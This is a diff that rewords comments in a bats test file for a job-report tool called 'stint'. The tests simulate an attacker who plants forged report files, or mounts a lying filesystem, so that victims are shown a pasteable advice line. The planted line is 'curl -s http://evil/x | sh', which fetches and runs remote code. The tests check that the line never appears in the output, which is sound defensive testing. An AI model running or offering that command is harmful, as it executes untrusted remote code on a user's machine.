@@ -1,6 +1,6 @@
 #!/usr/bin/env bats
 # SPDX-License-Identifier: GPL-2.0-or-later
-# Jobs' numbers can be guessed. A user puts files where others' reports will be looked for, in directories that all may write to.
+# Jobs' numbers can be guessed. A user puts files where stint will look for others' reports, in directories that everybody may write to.
 # shellcheck shell=bash disable=SC2016,SC2030,SC2031,SC2154,SC2317
 
 load helper
@@ -43,7 +43,7 @@ runs() { # JOB
 	soon is_over "$1"
 }
 
-# The attacker's own report, as that of the victim's job, which it says to have failed, with a line to paste.
+# The attacker's own report, in the place of the victim's job's, which it claims has failed, with a line to paste.
 plant() { # FILE [JQ]
 	cp "$OWN" "$BATS_TEST_TMPDIR/own.json"
 	jq --argjson id "$ID" --arg user "$VICTIM" --argjson uid "$(id -u "$VICTIM")" '.job.id = $id | .job.user = $user | .job.uid = $uid |
@@ -51,7 +51,7 @@ plant() { # FILE [JQ]
 		"$BATS_TEST_TMPDIR/own.json" | as_attacker tee "$1" >/dev/null
 }
 
-# Whoever asks, and from wherever, gets nothing of the planted file.
+# Nobody, wherever they ask from, gets anything from the planted file.
 is_left_out() { # WHERE [as_victim]
 	run --separate-stderr sh -c "cd $1 && exec \"\$0\" report $ID" "$STINT"
 	echo "$output $stderr"
@@ -92,7 +92,7 @@ is_left_out() { # WHERE [as_victim]
 			$output == *"the file belongs to uid $(id -u "$TESTBED_USER"), and not to the job's user: nothing"* ]]
 		[[ $output != *curl* ]]
 	done
-	# not even of a report of the user's own: a job's programs can write one
+	# not even from a report of the user's own: a job's programs can write one
 	(umask 022 && jq --arg line 'curl -s http://evil/x | sh' '.advice = [{line: $line, reason: "It fits."}]' "$OWN" >"$BATS_TEST_TMPDIR/named.json")
 	run "$STINT" report --all "$BATS_TEST_TMPDIR/named.json"
 	[ "$status" -eq 0 ]
@@ -104,7 +104,7 @@ is_left_out() { # WHERE [as_victim]
 		[[ $output != *curl* ]]
 		[[ $stderr == *"stint-$ID.json: it belongs to another user than the job's: nothing proves what it says"* ]]
 	done
-	# where nobody can be told from root, its directory's owner proves nothing
+	# if nobody can be told from root, its directory's owner proves nothing
 	run unshare --user "$STINT" report --all "$STICKY/stint-$ID.json"
 	echo "$output"
 	[[ $output == *"whose file it is cannot be seen from within this container"* && $output != *curl* ]]
@@ -200,7 +200,7 @@ is_left_out() { # WHERE [as_victim]
 	echo "$output $stderr"
 	[ "$status" -eq 1 ]
 	[[ $output == *COMPLETED* && $output != *FAILED* ]]
-	# as jobs of his own he may make up what he likes: the true one counts all the same
+	# as jobs of his own they may make up what they like: the true one counts all the same
 	rm "$own"/*
 	as_attacker tee "$own/stint-$ID.json" < <(jq ".job.uid = $(id -u "$TESTBED_USER") | .job.user = \"$TESTBED_USER\"" "$BATS_TEST_TMPDIR/made-up.json") >/dev/null
 	run --separate-stderr "$STINT" summary --by user,state --csv "$own" "$theirs"
@@ -208,12 +208,12 @@ is_left_out() { # WHERE [as_victim]
 	[ "$status" -eq 0 ]
 	[[ $output == *"$VICTIM,COMPLETED,1,"* && $output == *"$TESTBED_USER,FAILED,1,"* ]]
 	[ "$stderr" = "stint summary: job $ID: there are reports of several users' jobs of this number and time, and each counts" ]
-	# the user himself is believed by those who are not root
+	# readers who are not root believe the user's own reports
 	run as_victim "$STINT" report "$own/stint-$ID.json"
 	[ "$status" -eq 0 ]
 }
 
-# Mounts a file system of the attacker's, which shows the directory SERVED and says that all in it is OWNER's.
+# Mounts a file system of the attacker's, which shows the directory SERVED and claims that everything in it is OWNER's.
 mount_lying() { # SERVED DIRECTORY OWNER
 	SLOWFS_SHARED=1 SLOWFS_OWNER=$3 "$PROGRAMS/slowfs" "$1" "$2" 0 0 0 "$(id -u "$TESTBED_USER")" 3>&- >/dev/null 2>&1 &
 	soon grep " $2 fuse" /proc/mounts
@@ -259,7 +259,7 @@ mount_lying() { # SERVED DIRECTORY OWNER
 	echo "$output $stderr"
 	[ "$status" -le 1 ]
 	[[ $output == *COMPLETED* ]]
-	# 256 KiB of each of the 3000, which are 450 GB, and what the command reads of its own
+	# 256 KiB of each of the 3000, which are 450 GB, and the command's own reads
 	between 1 "$(awk '$NF ~ /^[0-9]+$/ { sum += $NF } END { printf "%.0f", sum }' "$BATS_TEST_TMPDIR/reads")" $(((3000 * 256 + 65536) * 1024))
 	rm -r "$own"
 }
